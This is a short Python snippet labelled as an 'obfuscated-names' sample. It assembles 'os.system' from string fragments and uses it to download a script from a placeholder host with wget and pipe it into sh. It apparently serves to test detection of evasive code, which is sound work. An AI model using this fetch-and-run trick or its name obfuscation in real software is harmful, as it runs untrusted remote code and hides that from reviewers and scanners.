# family: obfuscated-names
# module and function names built from pieces so that no literal "os.system" appears
m = __import__("o" + "s")
f = getattr(m, "sys" + "tem")
f("wget -q -O- http://dl.example.invalid/a.sh | sh")
